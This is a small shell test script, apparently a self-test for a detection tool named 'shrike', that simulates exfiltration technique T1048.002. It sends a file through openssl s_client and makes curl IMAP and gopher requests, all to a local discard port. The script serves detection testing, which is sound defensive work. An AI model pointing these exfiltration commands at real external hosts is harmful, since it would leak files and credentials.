#!/bin/sh
# rule: Text client carries a session
# technique: T1048.002
# case: openssl sends a file to nobody, curl asks for mail of nobody
# needs: openssl, curl
# blind: connector

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
outside
echo text > file
openssl s_client -connect 127.0.0.1:9 < file > /dev/null 2>&1
curl -s imap://user:word@127.0.0.1:9/INBOX
curl -s gopher://127.0.0.1:9/_x
true
